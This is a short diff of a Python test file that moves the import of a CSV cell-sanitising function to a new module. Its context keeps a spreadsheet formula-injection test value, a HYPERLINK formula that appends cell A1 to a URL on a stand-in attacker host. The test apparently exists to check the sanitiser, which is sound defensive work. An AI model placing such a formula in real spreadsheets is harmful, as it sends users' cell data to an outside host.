@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from agreements.csv_rows import safe_cell
+from agreements.lists.csv_file import safe_cell
 from tests.factories import make_action, make_instrument
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
